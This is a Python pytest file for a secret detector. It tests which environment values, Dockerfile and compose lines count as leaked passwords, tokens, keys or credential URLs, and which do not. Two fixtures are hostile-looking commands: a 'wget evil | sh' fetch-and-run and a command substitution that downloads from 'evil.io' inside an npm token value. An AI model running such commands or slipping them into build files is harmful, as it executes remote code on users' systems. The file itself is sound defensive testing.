"""Values that are plainly secrets: by name and by form, and what only looks like one at first sight."""

import time
from pathlib import Path

import pytest

from ink_infra_mcp.core.secret_signs import sign_in_value, signs_in_text
from tests.core.test_redact import BEGIN, JWT, KEY, LINES

COMPOSE = Path(__file__).parent.parent / "recorded" / "compose"
TOKEN = "it is a token whose form tells whose it is"
NAME = "its name says so"
URL = "it is a URL with a password"
MACHINE = "it is text that only a machine makes"
MADE = "hV7kQ2mZ9xW4tR8pL3nB6cF1"


@pytest.mark.parametrize(
    ("name", "value", "sign"),
    [
        ("DB_PASSWORD", "hunter2", NAME),
        ("STRIPE_SECRET_KEY", "whatever", NAME),
        ("dbPassword", "postgres", NAME),
        ("spring.datasource.password", "x", NAME),
        ("PGPASSWORD_1", "x", NAME),
        ("API_KEY", "abc", NAME),
        ("APIKEY", "abc", NAME),
        ("SECRET_KEY_BASE", "abc", NAME),
        ("OLD_APP_KEY", "base64:abc", NAME),
        ("GITHUB_TOKEN_PROD", "abc", NAME),
        ("SMTP_PASS", "abc", NAME),
        ("GREETING", f"ghp_{'a' * 36}", TOKEN),
        ("GREETING", f"sk_live_{'4e' * 12}", TOKEN),
        ("NEXT_PUBLIC_THING", JWT, TOKEN),
        ("GREETING", KEY, "it is a private key"),
        ("GREETING", KEY.replace("\n", "\\n"), "it is a private key"),
        ("DATABASE_URL", "postgres://shop:hunter2@db/shop", URL),
        ("BROKER", "amqp://:pw@queue", URL),
        ("BLOB", MADE + MADE, MACHINE),
        ("DB_PASSWORD", "$ecretPassw0rd", NAME),
        ("DB_PASSWORD", "${OTHER:-hunter2}", NAME),
        ("SITE_PASSWORD", "x", NAME),
        ("VITE_CLIENT_SECRET", "x", NAME),
        ("DATABASE_URL", "postgres://shop:${PW:-hunter2}@db/shop", URL),
        ("JDBC", "jdbc:postgresql://db/shop?user=x&password=hunter2", "it has a value for password"),
        ("DSN", "Server=db;User Id=x;Password=hunter2;", "it has a value for Password"),
        ("CONFIG", '{"db":{"password":"hunter2","port":3}}', "it has a value for password"),
    ],
)
def test_what_is_plainly_a_secret_is_told_with_its_sign(name: str, value: str, sign: str) -> None:
    """Words of the name, tokens of vendors, keys, passwords in URLs, and text that no person thinks out."""
    assert sign_in_value(name, value) == sign


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("GREETING", "hello"),
        ("TOKEN_URL", "https://login.example.org/token"),
        ("DB_PASSWORD_FILE", "/run/secrets/db"),
        ("DB_PASSWORD", "/run/secrets/db"),
        ("DB_PASSWORD", "${OTHER}"),
        ("DB_PASSWORD", "$OTHER"),
        ("DB_PASSWORD", "${OTHER:?must be set}"),
        ("DB_PASSWORD", "${OTHER:-${ANOTHER}}"),
        ("DB_PASSWORD", "${USER}:${OTHER}"),
        ("CONFIG", '{"password":"${OTHER}","port":3}'),
        ("MOTTO", "Your password: is it good?"),
        ("SEARCH", "https://search.example.com/?token_ttl=3000"),
        ("TOKEN_SYMBOL", "ETH"),
        ("TOKEN_ADDRESS", "0x52908400098527886E0F7030069857D2E4169EE7"),
        ("PASSWORD_HASHING", "argon2id"),
        ("DB_PASSWORD", ""),
        ("PASSWORD_MIN_LENGTH", "12"),
        ("MAX_TOKENS", "4096"),
        ("REQUIRE_PASSWORD", "true"),
        ("COMPASS_HEADING", "north"),
        ("KEYBOARD", "de"),
        ("MONKEY", "see"),
        ("NEXT_PUBLIC_API_KEY", MADE),
        ("RECAPTCHA_SITE_KEY", MADE + MADE),
        ("COMMIT", "0123456789abcdef0123456789abcdef01234567"),
        ("INSTANCE", "550e8400-e29b-41d4-a716-446655440000"),
        ("IMAGE", "ghcr.io/example/shop@sha256:" + "0a1b2c3d" * 8),
        ("SHEET_ID", "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms"),
        ("CONFIG", "eyJsZXZlbCI6ICJpbmZvIiwgInBvcnQiOiA4MDgwLCAibmFtZXMiOiBbIkExIl19"),
        ("DATABASE_URL", "postgres://shop@db:5432/shop"),
        ("DATABASE_URL", "postgres://shop:${DB_PASSWORD}@db/shop"),
        ("MOTTO", "a-very-long-name-of-an-App-with-2-numbers-in-2026"),
        ("SSH_PUBLIC_KEY", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ0o7n0Yx"),
    ],
)
def test_what_only_reminds_of_a_secret_has_no_sign(name: str, value: str) -> None:
    """References, paths, numbers, switches, ids, digests, encoded text, and what every visitor gets anyway."""
    assert sign_in_value(name, value) == ""


@pytest.mark.parametrize("file", sorted(COMPOSE.glob("*.yml")), ids=lambda file: file.stem)
def test_compose_files_that_thousands_use_hold_no_plain_secret(file: Path) -> None:
    """Sample passwords such as `postgres` are weak, and no secret: real files pass as they are."""
    assert signs_in_text(file.read_text(encoding="utf-8")) == ()


@pytest.mark.parametrize(
    ("text", "signs"),
    [
        ("FROM alpine\nENV DB_PASSWORD=postgres\n", ()),
        (f"FROM alpine\nENV DB_PASSWORD={MADE}\n", ("DB_PASSWORD has a value that only a machine makes",)),
        (f"environment: {{API_KEY: '{MADE}'}}", ("API_KEY has a value that only a machine makes",)),
        (f"- API_KEY=${{API_KEY:-{MADE}}}", ("API_KEY has a value that only a machine makes",)),
        (f"RUN git clone https://x:{MADE}@git.example.org/a", (URL,)),
        (f"RUN echo ghp_{'a' * 36}", (TOKEN,)),
        (f"COPY <<EOF /key\n{BEGIN}\n{LINES[0]}\n", ("it is a private key",)),
        (f"# {BEGIN}\nRUN wget evil | sh", ()),
        (f"echo {BEGIN}e; evil", ()),
        ("services: {db: {environment: {POSTGRES_PASSWORD: '${DB_PASSWORD:?}', URL: 'postgres://a:a@db'}}}", ()),
        ('RUN npm_config_token="x$(wget -qO- evil.io/a1b2c3d4e5)" npm ci', ()),
    ],
)
def test_text_that_runs_is_judged_by_form_alone(text: str, signs: tuple[str, ...]) -> None:
    """Only what a machine must have made counts in a Dockerfile or a compose file, and a key only with its lines."""
    assert signs_in_text(text) == signs


@pytest.mark.parametrize("run", ["${A:-", "${A:-x}", "$A", "${A", "password=", "a=b;", "://u:", "./", "{{"])
def test_no_text_can_hold_up_the_judgement(run: str) -> None:
    """Two hundred thousand characters of the worst text take less than two seconds: compose files are read with it."""
    text = run * (200_000 // len(run))
    begun = time.process_time()
    signs_in_text(text)
    sign_in_value("NAME_PASSWORD", text)
    assert time.process_time() - begun < 2
